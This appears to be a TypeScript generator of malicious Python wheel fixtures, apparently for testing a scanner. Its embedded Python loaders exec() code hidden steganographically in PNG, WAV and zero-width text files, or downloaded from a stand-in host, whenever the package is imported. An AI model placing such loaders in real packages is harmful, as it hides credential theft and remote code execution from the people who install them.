import { deflateSync } from 'node:zlib';
import { techniques } from './drafts.ts';
import { base64, blob, xor } from './encoders.ts';
import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay, Site } from './incident.ts';
import { audioTools, imageTools } from './look-alikes/media.ts';
import { makePng, makeWav } from './media.ts';
import { credentialCollector, stagedLoader } from './payloads.ts';
import { py } from './python-text.ts';

const REMOTE = 'https://img.gallery-cdn.invalid';

function draft(name: string, asset: string, bytes: Uint8Array, code: string): Draft {
  const root = name.replaceAll('-', '_');
  const site: Site = {
    path: `${root}/__init__.py`,
    form: 'module',
    before: '"""Themes of plots."""\nfrom . import themes\n',
    code,
    after: '',
  };
  return {
    kind: 'wheel',
    name,
    version: '2.2.0',
    files: { [`${root}/themes.py`]: fillerModule('Themes.', 240, 181), [`${root}/${asset}`]: bytes },
    sites: [site],
  };
}

/** Behind IEND: a viewer shows the picture, the code cuts off the rest. */
const appended = (c: Remote): Draft => {
  const picture = makePng(64, 64, blob('logo', 12_288));
  const hidden = deflateSync(Buffer.from(credentialCollector(c)));
  return draft(
    'plot-themes-x',
    'logo.png',
    Buffer.concat([picture, hidden]),
    py`
import os
import zlib

with open(os.path.join(os.path.dirname(__file__), "logo.png"), "rb") as _stream:
    _data = _stream.read()
exec(zlib.decompress(_data[_data.index(b"IEND") + 8:]))
`,
  );
};

/** One bit in each colour value. */
const lowestBits = (c: Remote): Draft => {
  const text = Buffer.from(stagedLoader(c));
  const length = Buffer.alloc(4);
  length.writeUInt32BE(text.length);
  const message = Buffer.concat([length, text]);
  const pixels = blob('noise', 160 * 160 * 3);
  for (let bit = 0; bit < message.length * 8; bit += 1) {
    const value = ((message[bit >> 3] ?? 0) >> (7 - (bit & 7))) & 1;
    pixels[bit] = ((pixels[bit] ?? 0) & 0xfe) | value;
  }
  return draft(
    'plot-themes-y',
    'banner.png',
    makePng(160, 160, pixels),
    py`
import os

from PIL import Image

_bits = [value & 1 for pixel in Image.open(os.path.join(os.path.dirname(__file__), "banner.png")).getdata() for value in pixel]


def _bytes(start, count):
    return bytes(int("".join(map(str, _bits[(start + i) * 8:(start + i + 1) * 8])), 2) for i in range(count))


_size = int.from_bytes(_bytes(0, 4), "big")
exec(_bytes(4, _size).decode())
`,
  );
};

const sound = (c: Remote): Draft => {
  const key = blob('wav key', 8);
  const frames = Buffer.from(base64(Buffer.concat([key, xor(Buffer.from(credentialCollector(c)), key)])));
  return draft(
    'plot-sounds',
    'ready.wav',
    makeWav(frames),
    py`
import base64
import os
import subprocess
import sys
import wave

with wave.open(os.path.join(os.path.dirname(__file__), "ready.wav"), "rb") as _sound:
    _raw = base64.b64decode(_sound.readframes(_sound.getnframes()).rstrip(b"\x00"))
_key, _body = _raw[:8], _raw[8:]
_stage = bytes(value ^ _key[index % 8] for index, value in enumerate(_body))
subprocess.Popen([sys.executable, "-c", _stage.decode()], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
`,
  );
};

const downloaded = (c: Remote): Draft =>
  draft(
    'plot-wallpaper',
    'thumb.png',
    makePng(16, 16, blob('thumb', 768)),
    py`
import io
import urllib.request

from judyb import lsb
from PIL import Image

_image = Image.open(io.BytesIO(urllib.request.urlopen("${c.url('/wall/8F4D2uAJqosp1.png')}").read()))
exec(lsb.reveal(_image))
`,
  );

/** Text between zero-width characters, a bit each. */
const zeroWidth = (c: Remote): Draft => {
  const bits = [...Buffer.from(stagedLoader(c))].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  const hidden = Array.from(bits)
    .map((bit) => (bit === '0' ? '\u200b' : '\u200c'))
    .join('');
  return draft(
    'plot-captions',
    'captions.txt',
    Buffer.from(`Captions of the figures.${hidden}\n`),
    py`
import os

with open(os.path.join(os.path.dirname(__file__), "captions.txt"), encoding="utf-8") as _stream:
    _marks = [mark for mark in _stream.read() if mark in "\u200b\u200c"]
_text = "".join("1" if mark == "\u200c" else "0" for mark in _marks)
exec(bytes(int(_text[index:index + 8], 2) for index in range(0, len(_text), 8)))
`,
  );
};

const at = techniques('https://attack.mitre.org/techniques/T1027/003/', REMOTE);

export const MEDIA: readonly Replay[] = [
  at(
    '30a-png-appended',
    'a collector behind the end of a PNG',
    'import inflates what follows the last chunk of a bundled picture and executes it',
    appended,
    { lookAlikes: () => [imageTools()] },
  ),
  at(
    '30b-png-bits',
    'a loader in the lowest bits of a PNG',
    'import reads the lowest bits of a bundled picture as text and executes it',
    lowestBits,
  ),
  at(
    '30c-wav-frames',
    'a collector in the frames of a bundled WAV',
    'import un-masks the frames of a bundled sound and starts Python with the text',
    sound,
    { lookAlikes: () => [audioTools()] },
  ),
  at(
    '30d-remote-picture',
    'a text revealed from a downloaded picture',
    'import downloads a picture, reveals a text in its pixels through another library and executes it',
    downloaded,
  ),
  at(
    '30e-zero-width',
    'a loader in zero-width characters of a text file',
    'import turns invisible characters of a bundled text into bytes and executes them',
    zeroWidth,
  ),
];
